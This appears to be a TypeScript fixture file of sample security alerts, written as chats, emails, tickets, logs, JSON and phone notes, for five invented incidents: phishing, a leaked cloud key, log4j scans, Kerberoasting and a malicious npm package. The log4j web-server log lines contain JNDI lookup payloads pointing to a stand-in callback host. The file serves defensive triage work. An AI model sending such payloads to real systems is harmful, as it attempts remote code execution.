import { chat, json, log, mail, phone, ticket, type Stranger } from './stranger.ts';

/** Six alerts for each sample report from 2025 on. */
export const STRANGERS_OF_2025: readonly Stranger[] = [
  // INC-2025-0001
  {
    id: 'INC-2025-0001',
    kind: chat,
    paste: `财务同事说收到供应商回信，点开链接要登录，登录完文档是空的
链接 hxxps://invoice-share[.]example[.]net/view
MFA 她自己点了同意，之后 finance-07 邮箱多了条收件箱规则`,
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: mail,
    paste: `From: clerk@corp.example
To: phishing@corp.example
Subject: Fwd: Re: Invoice 2025-031
Date: Tue, 11 Mar 2025 11:01:00 +0800

I signed in there and the document was empty. Is this real?

> From: accounts@supplier.example.org
> Please see the shared invoice: https://invoice-share[.]example[.]net/view?id=7
> Kind regards, Accounts`,
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: ticket,
    paste: `Category: phishing / account takeover
User: finance-07
Sign-in IP: 192.0.2.61 (hosting network)
User agent: python-httpx/0.27
MFA: satisfied by claim in the token
First seen: 2025-03-11 10:41
Last seen: 2025-03-11 14:49`,
    against: ['old-label'],
  },
  {
    id: 'INC-2025-0001',
    kind: log,
    paste: `2025-03-11T10:41:07+08:00 idp signin user=finance-07@corp.example ip=192.0.2.61 mfa=push result=success
2025-03-11T10:47:30+08:00 idp signin user=finance-07@corp.example ip=192.0.2.61 ua=python-httpx/0.27 interactive=false result=success
2025-03-11T10:47:31+08:00 idp signin user=sales-02@corp.example ip=10.9.8.7 result=success`,
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: json,
    paste: JSON.stringify({
      riskEvent: {
        principal: { upn: 'finance-07@corp.example' },
        net: { clientAddr: '192.0.2.61', asnKind: 'hosting' },
        seenAt: { epoch: 1741660867 },
        lure: { link: 'https://invoice-share.example.net/view' },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2025-0001',
    kind: phone,
    paste: 'clicked invoice-share[.]example[.]net and approved the push, doc was empty, is my mailbox hacked',
    against: [],
  },
  // INC-2025-0002
  {
    id: 'INC-2025-0002',
    kind: chat,
    paste: `云厂商短信：AccessKey 从未知地址调用，账号 ci-pull
来源 192[.]0[.]2[.]201，先 GetCallerIdentity 再列权限
谁在出差？`,
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: mail,
    paste: `From: no-reply@cloud.example
To: cloud-admins@corp.example
Subject: Unusual use of an access key
Date: Mon, 23 Jun 2025 21:16:20 +0800

Account: ci-pull
Called from: 192.0.2.201, never seen before
Calls: GetCallerIdentity, ListBuckets, GetObject
Please rotate the key.`,
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: ticket,
    paste: `标题：AccessKey 从未知地址调用
等级：高
子账号：ci-pull
来源 IP：192.0.2.201
首次发现：2025-06-21 02:10
最后发现：2025-06-24 00:40
备注：密钥可能在公开镜像 registry.example.com/tools/report-gen:1.8.2 里`,
    against: ['old-label'],
  },
  {
    id: 'INC-2025-0002',
    kind: log,
    paste: `2025-06-23T21:15:58+08:00 ram user=ci-pull action=sts:GetCallerIdentity src=192.0.2.201 ua=aliyun-cli
2025-06-23T21:16:02+08:00 oss user=ci-pull action=ListObjects bucket=build-cache src=192.0.2.201
2025-06-23T21:16:03+08:00 oss user=web-rw action=GetObject bucket=assets src=10.4.4.4`,
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: json,
    paste: JSON.stringify({
      trail: {
        actor: { subUser: 'ci-pull', keyTail: '7Q' },
        origin: { remote: '192.0.2.201' },
        op: { nm: 'GetCallerIdentity', tsMs: 1750684560000 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2025-0002',
    kind: phone,
    paste: 'key of ci-pull used from 192.0.2[.]201 just now, leaked in a public image?',
    against: [],
  },
  // INC-2025-0003
  {
    id: 'INC-2025-0003',
    kind: chat,
    paste: `Suricata 一晚上 4000 多条 log4j 告警，打官网的
源 192.0.2[.]77，回连域名 cb[.]example[.]net
官网是 Go 写的，应该没事？`,
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: mail,
    paste: `From: ids@corp.example
To: soc@corp.example
Subject: 4812 x ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)
Date: Wed, 3 Sep 2025 06:00:00 +0800

Top source: 192.0.2.77
Target: 203.0.113.10
--
IDS digest`,
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: ticket,
    paste: `Rule: 2034647
Name: log4j RCE attempt
Attacker: 192.0.2.77
Target: www (Linux arm64)
Count: 4812
Response: 404
Last seen: 2025-09-03`,
    against: ['old-label'],
  },
  {
    id: 'INC-2025-0003',
    kind: log,
    paste: `192.0.2.77 - - [03/Sep/2025:01:17:21 +0800] "GET /?x=\${jndi:ldap://cb.example.net/a} HTTP/1.1" 200 18244 "-" "Mozilla/5.0"
192.0.2.99 - - [03/Sep/2025:01:17:22 +0800] "GET /robots.txt HTTP/1.1" 200 61 "-" "bot"
192.0.2.77 - - [03/Sep/2025:01:17:23 +0800] "GET /solr/?x=\${jndi:ldap://cb.example.net/b} HTTP/1.1" 404 153 "-" "-"`,
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: json,
    paste: JSON.stringify({
      hit: {
        sensor: { nm: 'edge-ids' },
        rule: { num: 2034647 },
        ends: { a: { v4: '192.0.2.77' }, b: { v4: '203.0.113.10' } },
        tick: 1756833420,
      },
    }),
    against: [],
  },
  {
    id: 'INC-2025-0003',
    kind: phone,
    paste: 'log4shell scans all night from 192[.]0[.]2[.]77 on www, do we care?',
    against: [],
  },
  // INC-2026-0001
  {
    id: 'INC-2026-0001',
    kind: chat,
    paste: `ws-rt-02 九秒内要了 40 张 RC4 的服务票据，Kerberoasting？
今天有红队演练吗
规则是 Suspicious Kerberos RC4 Ticket Encryption`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: mail,
    paste: `From: siem@corp.example
To: duty@corp.example
Subject: Sigma: Suspicious Kerberos RC4 Ticket Encryption on ws-rt-02
Date: Tue, 20 Jan 2026 22:31:30 +0800

Forty tickets with 0x17 from 192.0.2.112 within nine seconds.
> earlier today: exercise window announced`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: ticket,
    paste: `Detection: Kerberoasting
Rule ID: 496a0e47-0a33-4dca-b009-9e6ca3591f39
Workstation: ws-rt-02 (Windows 11)
Client address: 192.0.2.112
Encryption: RC4 (0x17)
Red team exercise running: maybe`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: log,
    paste: `2026-01-20T22:31:00+08:00 dc1 EventCode=4769 TicketEncryptionType=0x17 ServiceName=svc-sql ClientAddress=192.0.2.112 Computer=ws-rt-02
2026-01-20T22:31:01+08:00 dc1 EventCode=4624 LogonType=3 TargetUserName=helpdesk
2026-01-20T22:31:02+08:00 dc1 EventCode=4769 TicketEncryptionType=0x17 ServiceName=svc-bkp ClientAddress=192.0.2.112 Computer=ws-rt-02`,
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: json,
    paste: JSON.stringify({
      notable: {
        srch: 'Suspicious Kerberos RC4 Ticket Encryption',
        ent: { ws: 'ws-rt-02', osName: 'Windows 11 Enterprise' },
        fired: { at: 1768919460 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2026-0001',
    kind: phone,
    paste: 'kerberoast alert rc4 tickets from ws-rt-02, is the red team on?',
    against: [],
  },
  // INC-2026-0002
  {
    id: 'INC-2026-0002',
    kind: chat,
    paste: `依赖机器人的 MR 里 example-orders-ui-kit 跳到 99.0.1，resolved 变成 registry.npmjs.org
有安装脚本，已经在 CI 里跑过了
外联 metrics[.]example[.]net`,
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: mail,
    paste: `From: reviewer@corp.example
To: security@corp.example
Subject: strange lockfile change
Date: Tue, 12 May 2026 09:12:00 +0800

The bot bumped example-orders-ui-kit from 4.12.0 to 99.0.1 and its registry changed to the public one. It has an install script. Dependency confusion?
> On 11 May 2026, bot wrote:
> Bump dependencies`,
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: ticket,
    paste: `Finding: malicious npm package ran in CI
Package: example-orders-ui-kit@99.0.1
Egress: 198.51.100.151:443
Runner: ci-runner pool (Linux container)
File type: JavaScript
Last evidence: 2026-05-12`,
    against: ['old-label'],
  },
  {
    id: 'INC-2026-0002',
    kind: log,
    paste: `2026-05-11T19:06:21+08:00 runner-17 egress dst=198.51.100.151:443 bytes=4817 host=metrics.example.net
2026-05-11T19:06:22+08:00 runner-17 npm: added 214 packages in 9s
2026-05-11T19:44:58+08:00 runner-09 egress dst=198.51.100.151:443 bytes=5102 host=metrics.example.net`,
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: json,
    paste: JSON.stringify({
      scan: {
        pkg: {
          coord: 'example-orders-ui-kit@99.0.1',
          digest: { alg: 'sha256', hex: 'c2b5a1f0d8e94a7763bd10e2f5c8a6943b7e01dd98f4425ca6e1730f92bb8d54' },
        },
        egress: { fqdn: 'metrics.example.net' },
        ts: { ms: 1778548320000 },
      },
    }),
    against: [],
  },
  {
    id: 'INC-2026-0002',
    kind: phone,
    paste:
      'npm pulled example-orders-ui-kit 99.0.1 from public registry and it phones metrics[.]example[.]net',
    against: [],
  },
];
